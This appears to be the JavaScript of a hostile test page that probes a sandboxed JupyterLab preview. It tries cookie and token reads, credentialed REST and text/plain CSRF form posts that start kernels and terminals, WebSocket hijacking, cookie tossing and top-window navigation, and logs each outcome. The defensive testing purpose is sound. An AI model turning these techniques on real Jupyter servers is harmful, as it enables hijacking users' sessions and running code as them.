/*
 * The JavaScript of the hostile preview page (served by a WSGI app inside a Sandboxed Python
 * kernel; see test_preview_browser.py). It tries, as an attacker's app would, to act as the
 * logged-in Jupyter user: start a kernel or a terminal through the REST API (with the user's
 * cookies, with the XSRF cookie if it can read one, as a CORS-free form post), read Jupyter's
 * data and cookies, plant cookies for the Jupyter host, reach the JupyterLab page around it and
 * open Jupyter's WebSockets. Each attempt is recorded as "blocked", "SUCCEEDED" or
 * "unobservable" (the request may have been sent; the test then checks the server's state and
 * the browser's cookies), and the whole record is logged as "JSB-ATTACK <json>".
 * __CONFIG__ is replaced by the app with {"jupyter": [origins ending with "/"], "kernel": id},
 * __SEEN__ with what the app was given with the request for this page (query, cookies, Referer,
 * Authorization), reported as "seen".
 */
(async () => {
  const CONFIG = __CONFIG__;
  const SEEN = __SEEN__;
  const results = [];
  let framed;
  try {
    framed = window.top !== window.self;
  } catch (error) {
    framed = true;
  }
  const record = (name, target, outcome, detail) =>
    results.push({ name, target, outcome, detail: String(detail === undefined ? '' : detail).slice(0, 300) });
  const deadline = (promise, ms, what) =>
    Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error(`${what}: no answer in ${ms} ms`)), ms))]);

  // -- cookies ------------------------------------------------------------------------------
  // Jupyter's own: its login cookie and tornado's XSRF token ("2|…"), not what this page plants.
  const JUPYTER_COOKIE = /(^|; )(username-[^=]*=|_xsrf=2\|)/;
  let cookieText = null;
  try {
    cookieText = document.cookie;
    const jupyters = JUPYTER_COOKIE.test(cookieText);
    record('read document.cookie', '', jupyters ? 'SUCCEEDED' : 'blocked', `readable, Jupyter cookies: ${jupyters} (${cookieText.length} chars)`);
  } catch (error) {
    record('read document.cookie', '', 'blocked', error);
  }
  const xsrf = (cookieText && (/(?:^|; )_xsrf=([^;]*)/.exec(cookieText) || [])[1]) || 'jsb-tossed';
  // -- storage ------------------------------------------------------------------------------
  try {
    const keys = Object.keys(window.localStorage);
    const lab = keys.filter(key => /jupyterlab|@jupyter|lumino/i.test(key));
    record('read localStorage', '', lab.length ? 'SUCCEEDED' : 'blocked', `readable, ${keys.length} keys, JupyterLab's: ${lab.length}`);
  } catch (error) {
    record('read localStorage', '', 'blocked', error);
  }

  // -- the JupyterLab page around it -----------------------------------------------------------
  const probes = {
    'parent.jupyterapp': () => typeof window.parent.jupyterapp === 'object' && window.parent.jupyterapp !== null,
    'top.jupyterapp': () => typeof window.top.jupyterapp === 'object' && window.top.jupyterapp !== null,
    'parent.document (JupyterLab shell)': () => window.parent.document.querySelector('.jp-LabShell, #jp-main-dock-panel') !== null,
    'top.document (JupyterLab shell)': () => window.top.document.querySelector('.jp-LabShell, #jp-main-dock-panel') !== null,
    'top.document.cookie': () => JUPYTER_COOKIE.test(window.top.document.cookie),
    'top.localStorage (JupyterLab keys)': () => Object.keys(window.top.localStorage).some(key => /jupyterlab|@jupyter/i.test(key)),
    'parent.location.href': () => framed && typeof window.parent.location.href === 'string',
    'opener.document': () => window.opener !== null && window.opener.document !== undefined
  };
  for (const [name, probe] of Object.entries(probes)) {
    try {
      const reached = probe();
      record(name, '', reached ? 'SUCCEEDED' : 'blocked', reached ? 'reached JupyterLab' : 'readable, but not JupyterLab (or not framed)');
    } catch (error) {
      record(name, '', 'blocked', error);
    }
  }

  // -- the REST API -------------------------------------------------------------------------------
  const attempts = [];
  const tryFetch = (name, url, init, succeeded) =>
    attempts.push(
      (async () => {
        try {
          const response = await deadline(fetch(url, { credentials: 'include', ...init }), 60000, 'fetch');
          let body = '';
          try {
            body = await response.text();
          } catch (error) {
            body = String(error);
          }
          const outcome = response.type === 'opaque' ? 'unobservable' : succeeded(response, body) ? 'SUCCEEDED' : 'blocked';
          record(name, url, outcome, `HTTP ${response.status} (${response.type}) ${body.slice(0, 120)}`);
        } catch (error) {
          record(name, url, 'blocked', error);
        }
      })()
    );
  const created = response => response.ok;
  for (const jupyter of CONFIG.jupyter) {
    const json = { 'Content-Type': 'application/json', 'X-XSRFToken': xsrf };
    tryFetch('POST api/kernels', `${jupyter}api/kernels`, { method: 'POST', headers: json, body: JSON.stringify({ name: 'python3' }) }, created);
    tryFetch('POST api/terminals', `${jupyter}api/terminals`, { method: 'POST', headers: json, body: '{}' }, created);
    tryFetch('POST api/kernels (?_xsrf)', `${jupyter}api/kernels?_xsrf=${encodeURIComponent(xsrf)}`, { method: 'POST', headers: json, body: '{"name":"python3"}' }, created);
    tryFetch('POST api/kernels (simple, no-cors)', `${jupyter}api/kernels?_xsrf=${encodeURIComponent(xsrf)}`, {
      method: 'POST',
      mode: 'no-cors',
      headers: { 'Content-Type': 'text/plain' },
      body: '{"name":"python3"}'
    }, created);
    tryFetch('POST api/terminals (simple, no-cors)', `${jupyter}api/terminals?_xsrf=${encodeURIComponent(xsrf)}`, {
      method: 'POST',
      mode: 'no-cors',
      headers: { 'Content-Type': 'text/plain' },
      body: '{}'
    }, created);
    tryFetch('GET api/kernels', `${jupyter}api/kernels`, {}, (response, body) => response.ok && body.trim().startsWith('['));
    tryFetch('GET api/contents', `${jupyter}api/contents`, {}, (response, body) => response.ok && body.includes('"content"'));
    tryFetch('GET lab page', `${jupyter}lab`, {}, (response, body) => response.ok && body.includes('jupyter-config-data'));
  }

  // -- form posts (no CORS, no preflight; text/plain bodies that are JSON) ---------------------
  const formPost = (name, action, body) =>
    attempts.push(
      new Promise(resolve => {
        const frameName = `sink${Math.random().toString(36).slice(2)}`;
        const sink = document.createElement('iframe');
        sink.name = frameName;
        sink.style.display = 'none';
        document.body.append(sink);
        const form = document.createElement('form');
        form.method = 'POST';
        form.enctype = 'text/plain';
        form.action = action;
        form.target = frameName;
        const field = document.createElement('input');
        field.type = 'hidden';
        field.name = body.slice(0, -1) + ',"x":"';
        field.value = '"}';
        form.append(field);
        document.body.append(form);
        let done = false;
        const finish = detail => {
          if (!done) {
            done = true;
            let readable = false;
            try {
              readable = sink.contentDocument !== null && sink.contentDocument.body.innerText.includes('"id"');
            } catch (error) {
              readable = false;
            }
            record(name, action, readable ? 'SUCCEEDED' : 'unobservable', detail);
            resolve();
          }
        };
        sink.addEventListener('load', () => finish('submitted; the answer is not readable'));
        setTimeout(() => finish('submitted; no load event within 30 s'), 30000);
        try {
          form.submit();
        } catch (error) {
          done = true;
          record(name, action, 'blocked', error);
          resolve();
        }
      })
    );
  for (const jupyter of CONFIG.jupyter) {
    formPost('form POST api/kernels', `${jupyter}api/kernels?_xsrf=${encodeURIComponent(xsrf)}`, '{"name":"python3"}');
    formPost('form POST api/terminals', `${jupyter}api/terminals?_xsrf=${encodeURIComponent(xsrf)}`, '{"a":"b"}');
  }

  // -- Jupyter's WebSockets -------------------------------------------------------------------------
  const tryWebSocket = (name, url) =>
    attempts.push(
      new Promise(resolve => {
        let socket;
        const finish = (outcome, detail) => {
          if (socket) {
            socket.onopen = socket.onerror = socket.onclose = null;
            try {
              socket.close();
            } catch (error) {
              /* already closed */
            }
          }
          record(name, url, outcome, detail);
          resolve();
        };
        try {
          socket = new WebSocket(url);
        } catch (error) {
          finish('blocked', error);
          return;
        }
        const timer = setTimeout(() => finish('blocked', 'not opened within 30 s'), 30000);
        socket.onopen = () => {
          clearTimeout(timer);
          finish('SUCCEEDED', 'opened');
        };
        socket.onerror = () => {
          clearTimeout(timer);
          finish('blocked', 'error');
        };
        socket.onclose = event => {
          clearTimeout(timer);
          finish('blocked', `closed ${event.code}`);
        };
      })
    );
  for (const jupyter of CONFIG.jupyter) {
    const ws = jupyter.replace(/^http/, 'ws');
    tryWebSocket('WebSocket kernel channels', `${ws}api/kernels/${CONFIG.kernel}/channels`);
    tryWebSocket('WebSocket terminal', `${ws}terminals/websocket/jsb`);
  }

  // -- a popup and an iframe of JupyterLab ------------------------------------------------------------
  try {
    const popup = window.open(`${CONFIG.jupyter[0]}lab`, '_blank');
    if (popup === null) {
      record('window.open JupyterLab', CONFIG.jupyter[0], 'blocked', 'no window (popup blocker)');
    } else {
      attempts.push(
        new Promise(resolve => {
          setTimeout(() => {
            try {
              const reached = popup.document.querySelector('.jp-LabShell') !== null || typeof popup.jupyterapp === 'object';
              record('window.open JupyterLab', CONFIG.jupyter[0], reached ? 'SUCCEEDED' : 'blocked', 'document readable, not JupyterLab');
            } catch (error) {
              record('window.open JupyterLab', CONFIG.jupyter[0], 'blocked', error);
            }
            popup.close();
            resolve();
          }, 5000);
        })
      );
    }
  } catch (error) {
    record('window.open JupyterLab', CONFIG.jupyter[0], 'blocked', error);
  }
  attempts.push(
    new Promise(resolve => {
      const frame = document.createElement('iframe');
      frame.style.display = 'none';
      let done = false;
      const finish = () => {
        if (done) {
          return;
        }
        done = true;
        try {
          const readable = frame.contentDocument !== null;
          const reached = readable && (frame.contentDocument.querySelector('script') !== null || typeof frame.contentWindow.jupyterapp === 'object');
          record('iframe of JupyterLab', CONFIG.jupyter[0], reached ? 'SUCCEEDED' : 'blocked', readable ? 'document readable, not JupyterLab' : 'document not readable');
        } catch (error) {
          record('iframe of JupyterLab', CONFIG.jupyter[0], 'blocked', error);
        }
        resolve();
      };
      frame.addEventListener('load', finish);
      setTimeout(finish, 30000);
      frame.src = `${CONFIG.jupyter[0]}lab`;
      document.body.append(frame);
    })
  );

  await Promise.all(attempts);

  // Planting cookies comes last: a tossed _xsrf on this origin would spoil the attempts above.
  for (const spec of [
    'jsbevil=1; path=/',
    'jsbevil_host=1; path=/; domain=127.0.0.1',
    'jsbevil_localhost=1; path=/; domain=localhost',
    '_xsrf=jsb-tossed; path=/',
    '_xsrf=jsb-tossed; path=/; domain=localhost'
  ]) {
    try {
      document.cookie = spec;
      record('set cookie', spec, 'unobservable', 'no exception: the test checks the Jupyter hosts\' cookies');
    } catch (error) {
      record('set cookie', spec, 'blocked', error);
    }
  }
  console.log('JSB-ATTACK ' + JSON.stringify({ framed, origin: self.origin, href: location.href, seen: SEEN, results }));

  // Last, as it could take the JupyterLab page away: navigate the top window.
  if (framed) {
    try {
      window.top.location.href = `${CONFIG.jupyter[0]}lab?jsb-top-nav`;
      record('navigate top', CONFIG.jupyter[0], 'unobservable', 'no exception');
    } catch (error) {
      record('navigate top', CONFIG.jupyter[0], 'blocked', error);
    }
  }
  // A popup of JupyterLab opened on a click (with the user's activation, so no popup blocker):
  // the page must not reach into it.
  const popupButton = document.createElement('button');
  popupButton.id = 'popup';
  popupButton.textContent = 'Open JupyterLab in a popup';
  popupButton.addEventListener('click', () => {
    const popupResults = [];
    const target = `${CONFIG.jupyter[0]}lab`;
    const popup = window.open(target, '_blank');
    const report = (outcome, detail) => {
      popupResults.push({ name: 'popup of JupyterLab (user click)', target, outcome, detail: String(detail).slice(0, 300) });
      console.log('JSB-POPUP ' + JSON.stringify({ framed, origin: self.origin, results: popupResults }));
      if (popup) {
        popup.close();
      }
    };
    if (popup === null) {
      report('blocked', 'no window');
      return;
    }
    // Until its navigation commits the popup is an about:blank of this page's own origin;
    // after, JupyterLab there must be out of reach.
    const started = Date.now();
    const poll = () => {
      try {
        const reached = popup.document.querySelector('.jp-LabShell') !== null || typeof popup.jupyterapp === 'object';
        if (reached) {
          report('SUCCEEDED', `reached JupyterLab at ${popup.location.href}`);
          return;
        }
      } catch (error) {
        report('blocked', error);
        return;
      }
      if (Date.now() - started > 60000) {
        report('blocked', 'still not JupyterLab after 60 s');
        return;
      }
      setTimeout(poll, 100);
    };
    poll();
  });
  document.body.append(popupButton);
  const table = document.createElement('table');
  for (const result of results) {
    const row = table.insertRow();
    for (const text of [result.outcome, result.name, result.target, result.detail]) {
      row.insertCell().textContent = text;
    }
    row.className = result.outcome;
  }
  const done = document.createElement('p');
  done.id = 'done';
  done.textContent = `${results.length} attempts, ${results.filter(r => r.outcome === 'SUCCEEDED').length} succeeded; origin ${self.origin}`;
  document.body.append(done, table);
})();
